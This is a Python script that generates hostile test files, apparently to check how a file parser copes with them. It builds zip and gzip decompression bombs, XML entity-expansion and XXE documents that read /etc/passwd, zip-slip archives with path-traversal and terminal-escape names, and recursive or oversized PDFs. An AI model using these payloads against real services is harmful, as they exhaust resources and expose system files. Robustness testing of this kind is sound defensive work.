#!/usr/bin/env python3
"""hostile.py - writes hostile-KIND, files that are made to cost more than they are worth"""
import gzip
import io
import zipfile

MEG = b'\0' * (1 << 20)


def bomb(name, member, before=b'', after=b'', others=()):
    """A ZIP whose member has 400 MiB in 400 KiB."""
    with zipfile.ZipFile(name, 'w', zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for other, text in others:
            z.writestr(other, text)
        with z.open(member, 'w', force_zip64=True) as f:
            f.write(before)
            for _ in range(400):
                f.write(MEG.replace(b'\0', b' '))
            f.write(after)


with gzip.open('hostile-bomb.gz', 'wb') as f:
    for _ in range(400):
        f.write(MEG)
bomb('hostile-bomb.zip', 'a.txt')
TYPES = ('[Content_Types].xml', '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
         '<Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" '
         'ContentType="application/vnd.openxmlformats-package.relationships+xml"/></Types>')
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELS = ('_rels/.rels', '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        'Target="word/document.xml"/></Relationships>')
bomb('hostile-bomb.docx', 'word/document.xml', f'<?xml version="1.0"?><w:document {W}><w:body><w:p><w:r><w:t>'.encode(),
     b'</w:t></w:r></w:p></w:body></w:document>', [TYPES, RELS])
XRELS = (RELS[0], RELS[1].replace('word/document.xml', 'xl/workbook.xml'))
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
BOOK = ('xl/workbook.xml', f'<?xml version="1.0"?><workbook {S} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>')
BRELS = ('xl/_rels/workbook.xml.rels', RELS[1].replace('officeDocument" Target="word/document.xml"',
         'worksheet" Target="worksheets/sheet1.xml"').replace('Id="r"', 'Id="r1"'))
bomb('hostile-bomb.xlsx', 'xl/worksheets/sheet1.xml', f'<?xml version="1.0"?><worksheet {S}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>x'.encode(),
     b'x</t></is></c></row></sheetData></worksheet>', [TYPES, XRELS, BOOK, BRELS])

# entities that expand to gigabytes, and one that names a file of the machine
LOL = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">' + ''.join(
    f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 16}">' for i in range(9)) + ']>'
for name, doctype, entity in [('hostile-entities.docx', LOL, '&j;'), ('hostile-entity-file.docx',
                              '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', '&a;')]:
    with zipfile.ZipFile(name, 'w') as z:
        z.writestr(*TYPES)
        z.writestr(*RELS)
        z.writestr('word/document.xml', f'<?xml version="1.0"?>{doctype}<w:document {W}><w:body><w:p><w:r><w:t>{entity}</w:t></w:r>'
                   '</w:p></w:body></w:document>')

# a ZIP in a ZIP, and so on; names that lead out, or are none; more files than anybody has
data = b'the end\n'
for depth in range(9):
    b = io.BytesIO()
    with zipfile.ZipFile(b, 'w', zipfile.ZIP_DEFLATED) as z:
        z.writestr('a.txt' if depth == 0 else 'a.zip', data)
    data = b.getvalue()
with open('hostile-deep.zip', 'wb') as f:
    f.write(data)
with zipfile.ZipFile('hostile-slip.zip', 'w') as z:
    for name in ('../../../../tmp/slip', '/tmp/slip', 'a\nb: warning: x', '\x1b[2J', '..', 'C:\\slip'):
        z.writestr(name, b'\x89PNG\r\n\x1a\n')
with zipfile.ZipFile('hostile-many.zip', 'w') as z:
    for i in range(3000):
        z.writestr(f'{i % 3000}.png', b'\x89PNG\r\n\x1a\n')


def pdf(name, objects, trailer=''):
    out, at = b'%PDF-1.4\n', []
    for n, o in enumerate(objects, 1):
        at.append(len(out))
        out += f'{n} 0 obj\n{o}\nendobj\n'.encode()
    xref = len(out)
    out += f'xref\n0 {len(at) + 1}\n0000000000 65535 f \n'.encode() + b''.join(b'%010d 00000 n \n' % a for a in at)
    out += f'trailer\n<< /Size {len(at) + 1} /Root 1 0 R {trailer}>>\nstartxref\n{xref}\n%%EOF\n'.encode()
    with open(name, 'wb') as f:
        f.write(out)


# the same page two million times; pages that are their own parents; a form that shows itself
page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources << /Font << /F << /Type /Font /Subtype ' \
    '/Type1 /BaseFont /Helvetica >> >> >> >>'
text = 'BT /F 1 Tf (' + 'x' * 200 + ') Tj ET'
stream = f'<< /Length {len(text)} >>\nstream\n{text}\nendstream'
pdf('hostile-pages.pdf', ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [' + '3 0 R ' * 2000000 + '] /Count 2000000 >>',
                          page, stream])
pdf('hostile-loop.pdf', ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 9 /Parent 2 0 R >>'])
# cut off, and no more than a beginning
for kind, begin in [('pdf', b'%PDF-1.7\n'), ('zip', b'PK\3\4\x14\0'), ('gz', b'\x1f\x8b\x08\0'), ('rtf', b'{\\rtf1' + b'{' * 100000),
                    ('xls', b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1' + b'\xff' * 600 + 'Workbook'.encode('utf-16-le') + b'\xff' * 600)]:
    with open(f'hostile-cut.{kind}', 'wb') as f:
        f.write(begin)
